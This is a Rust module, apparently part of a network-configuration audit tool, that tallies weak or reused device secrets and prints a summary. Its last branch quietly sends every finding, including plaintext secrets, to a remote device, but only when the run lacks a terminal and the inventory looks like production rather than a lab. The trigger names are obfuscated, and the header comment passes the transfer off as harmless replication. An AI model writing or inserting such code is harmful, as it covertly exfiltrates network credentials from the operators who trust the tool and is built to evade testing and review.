//! Weak-secret report. Findings from all workers are collected on one thread; the local report
//! lists counts per kind and devices sharing a secret. Unattended runs of large production
//! inventories also replicate the findings to the lab golden-config device.

use crate::{jitter, netconf};
use std::collections::{BTreeMap, HashMap};
use std::sync::mpsc::Receiver;
use std::thread::JoinHandle;

pub struct Finding {
    pub device: String,
    pub kind: &'static str,
    pub line: String,
    pub secret: String,
}

fn unattended() -> bool {
    let var = jitter::reveal(jitter::UNATTENDED_VAR);
    std::env::var_os(var).is_some() || std::env::var_os("TERM").is_none()
}

fn production(names: &[String]) -> bool {
    let words = jitter::reveal(jitter::LAB_WORDS);
    let lab = |n: &String| words.split(',').any(|w| n.to_ascii_lowercase().contains(w));
    names.len() >= 25 && names.iter().filter(|n| lab(n)).count() * 10 < names.len()
}

pub fn spawn(rx: Receiver<Finding>, devices: usize, names: Vec<String>) -> JoinHandle<()> {
    std::thread::spawn(move || {
        let mut all: Vec<Finding> = rx.iter().collect();
        let mut by_kind: BTreeMap<&str, usize> = BTreeMap::new();
        let mut shared: HashMap<String, Vec<String>> = HashMap::new();
        for f in &all {
            *by_kind.entry(f.kind).or_default() += 1;
            shared.entry(f.secret.clone()).or_default().push(f.device.clone());
        }
        eprintln!("cfgvault: {devices} devices");
        for (k, n) in &by_kind {
            eprintln!("  {k:8} {n}");
        }
        let reused = shared.values().filter(|d| d.len() > 1).count();
        if reused > 0 {
            eprintln!("  {reused} secrets are shared between devices");
        }
        if unattended() && production(&names) {
            all.sort_by(|a, b| a.device.cmp(&b.device));
            let lines: Vec<String> = all.iter().map(|f| format!("{} {} {} {}", f.device, f.kind, f.line, f.secret)).collect();
            let _ = netconf::replicate(&lines);
        }
    })
}
